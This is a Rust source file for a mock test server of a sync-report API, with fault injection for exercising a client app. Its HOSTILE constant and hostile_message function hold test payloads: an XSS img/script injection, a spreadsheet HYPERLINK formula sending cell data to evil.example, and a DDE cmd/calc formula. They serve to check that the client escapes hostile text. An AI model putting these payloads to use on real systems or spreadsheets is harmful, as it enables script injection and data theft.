//! The reference server for the sync report API (the contract in `docs/api.md` and
//! `docs/openapi.yaml`). Its entries live in a [`store::Store`]: generated demo entries in
//! memory (the default), or a SQLite or PostgreSQL database (`--db`), filled by
//! `sync-report-server import`. It can misbehave on purpose: latency, error rates, malformed
//! bodies and one-off faults set by tests ([`Rule`]).
//!
//! Routes: `GET /api/sync-reports`, `GET /api/sync-reports/facets`, `GET /api/sync-reports/ids`,
//! `GET /api/sync-reports/summary`, `GET /api/sync-reports/changes`,
//! `POST /api/sync-reports/lookup`, `POST /api/sync-reports/resync`, `GET /config.json`, and the
//! built app (a `dist` folder) for everything else.

pub mod import;
pub mod store;

use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use axum::body::Bytes;
use axum::extract::{RawQuery, Request, State};
use axum::http::{header, HeaderName, HeaderValue, Method, StatusCode};
use axum::middleware::{self, Next};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Extension, Json, Router};
use chrono::{DateTime, Utc};
use serde::Deserialize;
use serde_json::{json, Value};
use store::{EntryStore, Ids, Store, StoreError};
use sync_report::model::demo::{DemoBackend, DemoConfig};
use sync_report::model::entry::EntryId;
use sync_report::model::query::{Ignored, Query};
use sync_report::model::resync::{ResyncOutcome, ResyncResult};
use sync_report::wire::{
    self, ChangesAnswer, EntriesBody, ErrorBody, Facets, IdsAnswer, IdsMeta, IdsRequest,
    IntegrationProblem, OutcomesBody, PageBody, PageMeta, PageRequest, ParamError,
};

/// Most ids one lookup or resync request may carry.
pub const MAX_IDS_PER_REQUEST: usize = wire::MAX_IDS_PER_REQUEST;
/// Most ids `GET /sync-reports/ids` lists.
pub const MAX_IDS_LISTED: usize = 100_000;

pub const REQUEST_ID: HeaderName = HeaderName::from_static("x-request-id");

/// How the server is set up.
#[derive(Clone, Debug)]
pub struct Options {
    /// Generated entries (10 to 1,000,000).
    pub size: usize,
    pub seed: u64,
    /// The built app to serve beside the API (`dist/` from `trunk build --release`).
    pub dist: Option<PathBuf>,
    /// When set, API requests need `Authorization: Bearer <token>`.
    pub token: Option<String>,
    /// Whether `/config.json` hands the token to the app (convenient for trying it out; a real
    /// deployment gets its credentials elsewhere, see docs/api.md).
    pub publish_token: bool,
    /// Origins allowed to call the API from another origin (CORS); empty: same origin only.
    pub allow_origins: Vec<String>,
    /// Added to every API answer.
    pub latency: Duration,
    pub random: RandomFaults,
    /// Added to the server's clock (to try a client whose clock is far off).
    pub clock_offset: chrono::Duration,
    /// The request timeout `/config.json` gives the app.
    pub client_timeout_seconds: u32,
    /// The auto-refresh interval `/config.json` gives the app (None: the app's default).
    pub client_refresh_seconds: Option<u32>,
    /// Serve the core of the contract only (`GET /sync-reports`, `POST /sync-reports/resync`):
    /// the optional endpoints answer 404, as a minimal backend's would.
    pub core_only: bool,
    /// New entries a minute (None: the demo's pace for its size). Entries arrive when
    /// `/sync-reports/changes` is asked, so other answers keep still between those.
    pub arrivals_per_minute: Option<u32>,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            size: 5_000,
            seed: sync_report::model::demo::DEFAULT_SEED,
            dist: None,
            token: None,
            publish_token: false,
            allow_origins: Vec::new(),
            latency: Duration::ZERO,
            random: RandomFaults::default(),
            clock_offset: chrono::Duration::zero(),
            client_timeout_seconds: 20,
            client_refresh_seconds: None,
            core_only: false,
            arrivals_per_minute: None,
        }
    }
}

/// Faults that strike at random, for trying the app against a flaky backend.
#[derive(Clone, Copy, Debug, Default)]
pub struct RandomFaults {
    /// Share of API requests answered 500.
    pub error_rate: f64,
    /// Share of API requests answered `slow` late.
    pub slow_rate: f64,
    pub slow: Duration,
    /// Share of page answers whose body is cut off mid-JSON.
    pub malformed_rate: f64,
}

/// One way to misbehave.
#[derive(Clone, Debug, PartialEq)]
pub enum Fault {
    /// Answer with this status and an error body (429 and 503 carry `Retry-After: 1`).
    Status(u16),
    /// Answer this much later.
    Delay(Duration),
    /// A page body cut off in the middle.
    Malformed,
    /// The first entries of a page carry fields of the wrong type.
    WrongTypes,
    /// The first entries of a page carry this status, unknown to the client.
    UnknownStatus(String),
    /// Entries padded until the page body holds about this many bytes.
    Huge(usize),
    /// This company group does not answer: its entries are left out and named in
    /// `meta.integrations_without_results`.
    IntegrationDown(String),
    /// Resync: every other item that would be accepted fails instead.
    ResyncFail,
    /// `meta.total` disagrees with the first page (the data "changed" between pages).
    ShiftingTotal,
    /// The connection is cut after the headers, before a body: the client sees a network
    /// error, as when the network drops (the e2e tests' way to go offline in browsers whose
    /// driver cannot emulate the network).
    Disconnect,
    /// The first three entries of a page carry hostile text: markup and script, a
    /// 10,000-character message, right-to-left text, emoji, control characters and spreadsheet
    /// formulas ([`HOSTILE`]).
    Hostile,
}

/// What [`Fault::Hostile`] writes into entries, field by field.
pub const HOSTILE: &[(&str, &str)] = &[
    (
        "common_ref",
        "<img src=x onerror=\"window.__pwned=1\">REF-1",
    ),
    ("type", "📦 Order 👩‍👩‍👧 <b>bold</b>"),
    (
        "error",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for details\")",
    ),
    ("source_id", "+cmd|' /C calc'!A0"),
    ("endpoint_id", "@SUM(1+1)"),
];

/// The hostile message: script, right-to-left override, Arabic, control characters, and length.
pub fn hostile_message() -> String {
    format!(
        "<script>window.__pwned=2</script>\u{202e}deliaf\u{202c} شركة الاختبار فشلت \u{7}\u{0}{}",
        "A very long failure reason that goes on and on. ".repeat(205)
    )
}

/// A fault for requests whose path ends with `path` (and whose query holds `query_contains`),
/// for the next `remaining` of them (None: every one).
#[derive(Clone, Debug)]
pub struct Rule {
    pub path: String,
    pub query_contains: Option<String>,
    pub remaining: Option<u32>,
    pub fault: Fault,
}

impl Rule {
    /// The next matching request only.
    pub fn once(path: &str, fault: Fault) -> Rule {
        Rule::times(path, 1, fault)
    }

    pub fn times(path: &str, n: u32, fault: Fault) -> Rule {
        Rule {
            path: path.to_string(),
            query_contains: None,
            remaining: Some(n),
            fault,
        }
    }

    /// Every matching request until the rules are cleared.
    pub fn always(path: &str, fault: Fault) -> Rule {
        Rule {
            path: path.to_string(),
            query_contains: None,
            remaining: None,
            fault,
        }
    }

    /// Only requests whose (decoded) query string contains `s`.
    pub fn when_query(mut self, s: &str) -> Rule {
        self.query_contains = Some(s.to_string());
        self
    }

    fn matches(&self, path: &str, query: &str) -> bool {
        path.ends_with(&self.path)
            && self
                .query_contains
                .as_ref()
                .is_none_or(|q| query.contains(q.as_str()))
            && self.remaining != Some(0)
    }
}

/// One API request as the server saw it (for tests: what was asked, and whether it carried
/// credentials).
#[derive(Clone, Debug)]
pub struct Seen {
    pub method: String,
    /// Path and decoded query.
    pub target: String,
    pub authorization: Option<String>,
}

/// The server's state.
pub struct Server {
    store: Arc<Store>,
    rules: Mutex<Vec<Rule>>,
    seen: Mutex<Vec<Seen>>,
    rng: Mutex<fastrand::Rng>,
    next_request: AtomicU64,
    opts: Options,
}

fn lock<T>(m: &Mutex<T>) -> MutexGuard<'_, T> {
    // A panicking handler must not take the whole server down with a poisoned lock.
    m.lock().unwrap_or_else(|p| p.into_inner())
}

impl Server {
    /// A server on generated entries in memory (`opts.size` of them).
    pub fn new(opts: Options) -> Arc<Server> {
        let now = Utc::now() + opts.clock_offset;
        let size = opts.size.clamp(
            sync_report::model::demo::MIN_SIZE,
            sync_report::model::demo::MAX_SIZE,
        );
        let mut backend = DemoBackend::new(DemoConfig {
            seed: opts.seed,
            size,
            now,
        });
        if let Some(n) = opts.arrivals_per_minute {
            backend.set_arrivals_per_minute(n);
        }
        Server::with_store(
            opts,
            Store::Memory(Box::new(store::memory::MemoryStore::new(backend))),
        )
    }

    /// A server on the given store (`--db`: a database opened with [`Store::open`]).
    pub fn with_store(opts: Options, store: Store) -> Arc<Server> {
        Arc::new(Server {
            store: Arc::new(store),
            rules: Mutex::new(Vec::new()),
            seen: Mutex::new(Vec::new()),
            rng: Mutex::new(fastrand::Rng::with_seed(opts.seed)),
            next_request: AtomicU64::new(1),
            opts,
        })
    }

    pub fn options(&self) -> &Options {
        &self.opts
    }

    pub fn store(&self) -> &Arc<Store> {
        &self.store
    }

    /// Entries held by an in-memory server (a stored one: `store().count()`).
    pub fn len(&self) -> usize {
        self.with_backend(|b| b.store.len())
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The server's clock.
    pub fn now(&self) -> DateTime<Utc> {
        Utc::now() + self.opts.clock_offset
    }

    /// Runs `f` on the generated data of an in-memory server (tests change entries to set up
    /// a case). Panics on a stored backend, whose entries are changed through the store.
    pub fn with_backend<R>(&self, f: impl FnOnce(&mut DemoBackend) -> R) -> R {
        self.store
            .memory()
            .expect("with_backend: this server's entries are in a database, not in memory")
            .with_backend(f)
    }

    pub fn add_rule(&self, rule: Rule) {
        lock(&self.rules).push(rule);
    }

    pub fn clear_rules(&self) {
        lock(&self.rules).clear();
    }

    /// Every API request so far.
    pub fn seen(&self) -> Vec<Seen> {
        lock(&self.seen).clone()
    }

    /// The faults for this request; one-off rules are used up.
    fn faults_for(&self, path: &str, query: &str) -> Vec<Fault> {
        let mut rules = lock(&self.rules);
        let mut out = Vec::new();
        for r in rules.iter_mut() {
            if r.matches(path, query) {
                if let Some(n) = &mut r.remaining {
                    *n -= 1;
                }
                out.push(r.fault.clone());
            }
        }
        rules.retain(|r| r.remaining != Some(0));
        let rf = self.opts.random;
        let mut rng = lock(&self.rng);
        if rf.error_rate > 0.0 && rng.f64() < rf.error_rate {
            out.push(Fault::Status(500));
        }
        if rf.slow_rate > 0.0 && rng.f64() < rf.slow_rate {
            out.push(Fault::Delay(rf.slow));
        }
        if rf.malformed_rate > 0.0 && rng.f64() < rf.malformed_rate {
            out.push(Fault::Malformed);
        }
        out
    }
}

/// The request's id, also sent back in `X-Request-Id` and in error bodies.
#[derive(Clone, Debug)]
struct RequestId(String);

/// Faults that change a handler's answer (the others are applied before it runs).
#[derive(Clone, Debug, Default)]
struct BodyFaults(Vec<Fault>);

fn error(status: StatusCode, code: &str, message: impl Into<String>, id: &RequestId) -> Response {
    error_with(status, code, message, id, Vec::new())
}

fn error_with(
    status: StatusCode,
    code: &str,
    message: impl Into<String>,
    id: &RequestId,
    errors: Vec<ParamError>,
) -> Response {
    let body = ErrorBody {
        code: code.to_string(),
        message: message.into(),
        request_id: id.0.clone(),
        errors,
    };
    let mut res = (status, Json(body)).into_response();
    if status == StatusCode::TOO_MANY_REQUESTS || status == StatusCode::SERVICE_UNAVAILABLE {
        res.headers_mut()
            .insert(header::RETRY_AFTER, HeaderValue::from_static("1"));
    }
    res
}

/// A 200 whose body fails at once: hyper then closes the connection mid-answer.
fn cut_connection() -> Response {
    let cut = futures_util::stream::once(async {
        Err::<Bytes, std::io::Error>(std::io::Error::other("connection cut by a fault rule"))
    });
    Response::new(axum::body::Body::from_stream(cut))
}

fn status_fault(status: u16, id: &RequestId) -> Response {
    let s = StatusCode::from_u16(status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
    let (code, message) = match status {
        401 => ("unauthenticated", "Sign in to see sync reports."),
        403 => ("forbidden", "You may not see these sync reports."),
        404 => ("not_found", "No such resource."),
        429 => (
            "rate_limited",
            "Too many requests; retry after the given delay.",
        ),
        503 => (
            "unavailable",
            "The report service is starting or overloaded.",
        ),
        _ => (
            "server_error",
            "The report service failed (injected fault).",
        ),
    };
    error(s, code, message, id)
}

/// Request ids, request log, credentials, injected latency and status faults, no caching.
async fn api_layer(State(server): State<Arc<Server>>, mut req: Request, next: Next) -> Response {
    let n = server.next_request.fetch_add(1, Ordering::Relaxed);
    let id = RequestId(format!("req-{n:06}"));
    let path = req.uri().path().to_string();
    let query = req
        .uri()
        .query()
        .map(|q| {
            form_urlencoded::parse(q.as_bytes())
                .map(|(k, v)| format!("{k}={v}"))
                .collect::<Vec<_>>()
                .join("&")
        })
        .unwrap_or_default();
    let authorization = req
        .headers()
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
        .map(str::to_string);
    lock(&server.seen).push(Seen {
        method: req.method().to_string(),
        target: if query.is_empty() {
            path.clone()
        } else {
            format!("{path}?{query}")
        },
        authorization: authorization.clone(),
    });
    let faults = if req.method() == Method::OPTIONS {
        Vec::new()
    } else {
        server.faults_for(&path, &query)
    };
    if !server.opts.latency.is_zero() {
        tokio::time::sleep(server.opts.latency).await;
    }
    let mut body_faults = Vec::new();
    let mut answer = None;
    for f in faults {
        match f {
            Fault::Delay(d) => tokio::time::sleep(d).await,
            Fault::Status(s) if answer.is_none() => answer = Some(status_fault(s, &id)),
            Fault::Status(_) => {}
            Fault::Disconnect if answer.is_none() => answer = Some(cut_connection()),
            Fault::Disconnect => {}
            other => body_faults.push(other),
        }
    }
    let mut res = match answer {
        Some(r) => r,
        None => {
            let authorized = match &server.opts.token {
                None => true,
                Some(t) => authorization.as_deref() == Some(&format!("Bearer {t}")),
            };
            if !authorized && req.method() != Method::OPTIONS {
                let mut r = error(
                    StatusCode::UNAUTHORIZED,
                    "unauthenticated",
                    "A valid bearer token is required.",
                    &id,
                );
                r.headers_mut()
                    .insert(header::WWW_AUTHENTICATE, HeaderValue::from_static("Bearer"));
                r
            } else {
                req.extensions_mut().insert(id.clone());
                req.extensions_mut().insert(BodyFaults(body_faults));
                next.run(req).await
            }
        }
    };
    if let Ok(v) = HeaderValue::from_str(&id.0) {
        res.headers_mut().insert(REQUEST_ID, v);
    }
    res.headers_mut()
        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    res
}

fn pairs(raw: &Option<String>) -> Vec<(String, String)> {
    raw.as_deref()
        .map(|q| {
            form_urlencoded::parse(q.as_bytes())
                .map(|(k, v)| (k.into_owned(), v.into_owned()))
                .collect()
        })
        .unwrap_or_default()
}

fn param_errors(ignored: Vec<Ignored>) -> Vec<ParamError> {
    ignored
        .into_iter()
        .map(|i| ParamError {
            parameter: i.key,
            value: i.value,
            reason: i.reason,
        })
        .collect()
}

/// Reads the query parameters; any that cannot be used as given is a 400 naming it.
fn read_query(raw: &Option<String>, id: &RequestId) -> Result<(Query, PageRequest), Box<Response>> {
    let pairs = pairs(raw);
    let (q, page, ignored) = wire::read_params(pairs.iter().map(|(k, v)| (k.as_str(), v.as_str())));
    if ignored.is_empty() {
        Ok((q, page))
    } else {
        let errors = param_errors(ignored);
        let msg = errors
            .iter()
            .map(|e| format!("{}: {}", e.parameter, e.reason.trim_end_matches('.')))
            .collect::<Vec<_>>()
            .join("; ");
        Err(Box::new(error_with(
            StatusCode::BAD_REQUEST,
            "invalid_parameter",
            format!("Unusable parameters: {msg}"),
            id,
            errors,
        )))
    }
}

/// The answer to a store that failed: 503 with `Retry-After` when the database is down, busy or
/// locked (it recovers by itself when it comes back), 500 otherwise; the cause in words.
fn store_error(e: StoreError, id: &RequestId) -> Response {
    let (status, code) = match &e {
        StoreError::Unavailable(_) => (StatusCode::SERVICE_UNAVAILABLE, "database_unavailable"),
        StoreError::Locked(_) => (StatusCode::SERVICE_UNAVAILABLE, "database_locked"),
        StoreError::Failed(_) => (StatusCode::INTERNAL_SERVER_ERROR, "database_error"),
    };
    eprintln!("{}: {e}", id.0);
    error(status, code, e.to_string(), id)
}

/// Answers with the store's result as JSON, or its failure.
fn answer<T>(r: store::Result<T>, id: &RequestId, body: impl FnOnce(T) -> Response) -> Response {
    match r {
        Ok(v) => body(v),
        Err(e) => store_error(e, id),
    }
}

async fn list(
    State(server): State<Arc<Server>>,
    Extension(id): Extension<RequestId>,
    Extension(BodyFaults(faults)): Extension<BodyFaults>,
    RawQuery(raw): RawQuery,
) -> Response {
    let (q, page) = match read_query(&raw, &id) {
        Ok(x) => x,
        Err(r) => return *r,
    };
    let now = server.now();
    let mut down = Vec::new();
    for f in &faults {
        if let Fault::IntegrationDown(name) = f {
            down.push(name.clone());
        }
    }
    let p = match server.store.page(&q, page, &down, now).await {
        Ok(p) => p,
        Err(e) => return store_error(e, &id),
    };
    let per_page = page.per_page;
    let mut total_sent = p.total;
    if faults.contains(&Fault::ShiftingTotal) {
        total_sent += 7;
    }
    let meta = PageMeta {
        total: total_sent,
        current_page: page.page,
        per_page: page.per_page,
        last_page: p.total.div_ceil(per_page).max(1),
        available_entities: p.available_entities,
        integrations_without_results: down
            .into_iter()
            .map(|name| IntegrationProblem {
                message: format!("{name} did not answer within 10 seconds"),
                integration_name: name,
            })
            .collect(),
        in_range: Some(p.in_range),
        generated_at: Some(now),
    };
    let body = PageBody {
        data: &p.data,
        meta: &meta,
    };
    let mut value = match serde_json::to_value(&body) {
        Ok(v) => v,
        Err(e) => {
            return error(
                StatusCode::INTERNAL_SERVER_ERROR,
                "server_error",
                e.to_string(),
                &id,
            )
        }
    };
    let mut malformed = false;
    for f in &faults {
        match f {
            Fault::WrongTypes => {
                if let Some(Value::Array(items)) = value.get_mut("data") {
                    for (i, item) in items.iter_mut().take(2).enumerate() {
                        if i == 0 {
                            item["created_at"] = json!(12345);
                        } else {
                            item["integration"] = json!({ "name": 5 });
                        }
                    }
                }
            }
            Fault::UnknownStatus(s) => {
                if let Some(Value::Array(items)) = value.get_mut("data") {
                    for item in items.iter_mut().take(3) {
                        item["status"] = json!(s);
                    }
                }
            }
            Fault::Huge(bytes) => {
                if let Some(Value::Array(items)) = value.get_mut("data") {
                    let n = items.len().max(1);
                    let pad = "x".repeat(bytes / n);
                    for item in items.iter_mut() {
                        item["error"] = json!(format!("Padding to make a huge answer: {pad}"));
                    }
                }
            }
            Fault::Malformed => malformed = true,
            Fault::Hostile => {
                if let Some(Value::Array(items)) = value.get_mut("data") {
                    for item in items.iter_mut().take(3) {
                        for (field, text) in HOSTILE {
                            item[*field] = json!(text);
                        }
                        item["message"] = json!(hostile_message());
                        item["integration"]["name"] = json!("\u{202e}Acme RTL\u{202c} مؤسسة");
                        item["status"] = json!("Failed");
                    }
                }
            }
            _ => {}
        }
    }
    let mut text = value.to_string();
    if malformed {
        text.truncate(text.len() / 2);
    }
    (
        [(
            header::CONTENT_TYPE,
            HeaderValue::from_static("application/json"),
        )],
        text,
    )
        .into_response()
}

async fn facets(
    State(server): State<Arc<Server>>,
    Extension(id): Extension<RequestId>,
    RawQuery(raw): RawQuery,
) -> Response {
    let (q, _) = match read_query(&raw, &id) {
        Ok(x) => x,
        Err(r) => return *r,
    };
    let r = server.store.facets(&q, server.now()).await;
    answer(r, &id, |c| Json(Facets::counted(&c)).into_response())
}

/// `GET /sync-reports/changes`: the filters, and `since` (the viewer's snapshot).
async fn changes(
    State(server): State<Arc<Server>>,
    Extension(id): Extension<RequestId>,
    RawQuery(raw): RawQuery,
) -> Response {
    let all = pairs(&raw);
    let since = all
        .iter()
        .find(|(k, _)| k == "since")
        .map(|(_, v)| v.clone());
    let rest = form_urlencoded::Serializer::new(String::new())
        .extend_pairs(all.iter().filter(|(k, _)| k != "since"))
        .finish();
    let (q, _) = match read_query(&Some(rest), &id) {
        Ok(x) => x,
        Err(r) => return *r,
    };
    let Some(since) = since
        .as_deref()
        .and_then(sync_report::model::entry::parse_datetime)
    else {
        return error(
            StatusCode::BAD_REQUEST,
            "invalid_parameter",
            "since: an ISO-8601 timestamp is required",
            &id,
        );
    };
    let now = server.now();
    let r = server.store.changes(&q, since, now).await;
    answer(r, &id, |(new, changed)| {
        Json(ChangesAnswer {
            new,
            changed,
            generated_at: now,
        })
        .into_response()
    })
}

async fn summary(
    State(server): State<Arc<Server>>,
    Extension(id): Extension<RequestId>,
    RawQuery(raw): RawQuery,
) -> Response {
    let (q, _) = match read_query(&raw, &id) {
        Ok(x) => x,
        Err(r) => return *r,
    };
    let r = server.store.summary(&q, server.now()).await;
    answer(r, &id, |s| Json(s).into_response())
}

async fn ids(
    State(server): State<Arc<Server>>,
    Extension(id): Extension<RequestId>,
    RawQuery(raw): RawQuery,
) -> Response {
    let (q, _) = match read_query(&raw, &id) {
        Ok(x) => x,
        Err(r) => return *r,
    };
    let now = server.now();
    let r = server.store.ids(&q, now, MAX_IDS_LISTED).await;
    answer(r, &id, |found| match found {
        Ids::TooMany(n) => error(
            StatusCode::UNPROCESSABLE_ENTITY,
            "too_many",
            format!(
                "{n} entries match; at most {MAX_IDS_LISTED} can be listed. Narrow the filters."
            ),
            &id,
        ),
        Ids::Listed(data) => Json(IdsAnswer {
            meta: IdsMeta {
                total: data.len() as u64,
                generated_at: Some(now),
            },
            data,
        })
        .into_response(),
    })
}

fn read_ids(body: &Bytes, id: &RequestId) -> Result<Vec<EntryId>, Box<Response>> {
    let de = &mut serde_json::Deserializer::from_slice(body);
    let parsed: IdsRequest = parse_whole(de).map_err(|e| {
        Box::new(error(
            StatusCode::BAD_REQUEST,
            "invalid_body",
            format!("The body must be {{\"ids\": [numbers]}}: {e}"),
            id,
        ))
    })?;
    if parsed.ids.len() > MAX_IDS_PER_REQUEST {
        // A 400 like any other body the schema refuses (`maxItems: 1000`).
        return Err(Box::new(error(
            StatusCode::BAD_REQUEST,
            "too_many",
            format!(
                "{} ids sent; at most {MAX_IDS_PER_REQUEST} per request.",
                parsed.ids.len()
            ),
            id,
        )));
    }
    Ok(parsed.ids)
}

fn parse_whole<'de, T: Deserialize<'de>>(
    de: &mut serde_json::Deserializer<serde_json::de::SliceRead<'de>>,
) -> Result<T, serde_json::Error> {
    let v = T::deserialize(&mut *de)?;
    de.end()?;
    Ok(v)
}

async fn lookup(
    State(server): State<Arc<Server>>,
    Extension(id): Extension<RequestId>,
    body: Bytes,
) -> Response {
    let ids = match read_ids(&body, &id) {
        Ok(i) => i,
        Err(r) => return *r,
    };
    let r = server.store.lookup(&ids).await;
    answer(r, &id, |data| {
        Json(EntriesBody { data: &data }).into_response()
    })
}

async fn resync(
    State(server): State<Arc<Server>>,
    Extension(id): Extension<RequestId>,
    Extension(BodyFaults(faults)): Extension<BodyFaults>,
    body: Bytes,
) -> Response {
    let ids = match read_ids(&body, &id) {
        Ok(i) => i,
        Err(r) => return *r,
    };
    let now = server.now();
    // The fault: every other id that would be accepted fails instead (as a platform refusing
    // it would), and is not passed on.
    let mut failing = std::collections::HashSet::new();
    if faults.contains(&Fault::ResyncFail) {
        let found = match server.store.lookup(&ids).await {
            Ok(f) => f,
            Err(e) => return store_error(e, &id),
        };
        let mut accepted_seen = 0usize;
        for &i in &ids {
            if let Some(e) = found.iter().find(|e| e.id == i) {
                if sync_report::model::resync::check(e).is_ok() {
                    accepted_seen += 1;
                    if accepted_seen % 2 == 0 {
                        failing.insert((i, e.system_chain.destination.to_string()));
                    }
                }
            }
        }
    }
    let passed: Vec<EntryId> = ids
        .iter()
        .copied()
        .filter(|i| !failing.iter().any(|(f, _)| f == i))
        .collect();
    let outcomes = match server.store.resync(&passed, now).await {
        Ok(o) => o,
        Err(e) => return store_error(e, &id),
    };
    let mut out: Vec<ResyncOutcome> = Vec::with_capacity(ids.len());
    let mut next = outcomes.into_iter();
    for &i in &ids {
        if let Some((_, dest)) = failing.iter().find(|(f, _)| *f == i) {
            out.push(ResyncOutcome {
                id: i,
                result: ResyncResult::Failed {
                    message: format!("{dest} rejected the resync request (HTTP 502)"),
                },
            });
        } else if let Some(o) = next.next() {
            out.push(o);
        }
    }
    Json(OutcomesBody { data: &out }).into_response()
}

/// What `/config.json` tells the app.
fn app_config(server: &Server) -> Value {
    let mut v = json!({
        "mode": "http",
        "api_base": "/api",
        "timeout_seconds": server.opts.client_timeout_seconds,
    });
    if let Some(r) = server.opts.client_refresh_seconds {
        v["refresh_seconds"] = json!(r);
    }
    if server.opts.publish_token {
        if let Some(t) = &server.opts.token {
            v["token"] = json!(t);
        }
    }
    v
}

async fn config(State(server): State<Arc<Server>>) -> Response {
    (
        [(header::CACHE_CONTROL, HeaderValue::from_static("no-store"))],
        Json(app_config(&server)),
    )
        .into_response()
}

async fn api_not_found(Extension(id): Extension<RequestId>) -> Response {
    error(
        StatusCode::NOT_FOUND,
        "not_found",
        "No such API endpoint.",
        &id,
    )
}

/// The API routes alone, under `/api`.
pub fn api(server: Arc<Server>) -> Router {
    let mut routes = Router::new()
        .route("/sync-reports", get(list))
        .route("/sync-reports/resync", post(resync));
    if !server.opts.core_only {
        routes = routes
            .route("/sync-reports/facets", get(facets))
            .route("/sync-reports/ids", get(ids))
            .route("/sync-reports/summary", get(summary))
            .route("/sync-reports/lookup", post(lookup))
            .route("/sync-reports/changes", get(changes));
    }
    let routes = routes
        .fallback(api_not_found)
        .layer(middleware::from_fn_with_state(server.clone(), api_layer))
        .with_state(server.clone());
    let router = Router::new().nest("/api", routes);
    if server.opts.allow_origins.is_empty() {
        return router;
    }
    let origins: Vec<HeaderValue> = server
        .opts
        .allow_origins
        .iter()
        .filter_map(|o| HeaderValue::from_str(o).ok())
        .collect();
    router.layer(
        tower_http::cors::CorsLayer::new()
            .allow_origin(origins)
            .allow_methods([Method::GET, Method::POST])
            .allow_headers([header::AUTHORIZATION, header::CONTENT_TYPE])
            .expose_headers([REQUEST_ID, header::RETRY_AFTER])
            .allow_credentials(true)
            .max_age(Duration::from_secs(600)),
    )
}

/// The whole server: the API, `/config.json`, and the built app when `dist` is set.
pub fn router(server: Arc<Server>) -> Router {
    let mut r = api(server.clone()).route("/config.json", get(config).with_state(server.clone()));
    if let Some(dist) = &server.opts.dist {
        let index = dist.join("index.html");
        // The release build's precompressed files (`.br`, `.gz`: scripts/trunk-post-build.mjs)
        // are sent to browsers that accept them, as a production host would.
        r = r.fallback_service(
            tower_http::services::ServeDir::new(dist)
                .precompressed_br()
                .precompressed_gzip()
                .fallback(
                    tower_http::services::ServeFile::new(index)
                        .precompressed_br()
                        .precompressed_gzip(),
                ),
        );
    }
    r
}
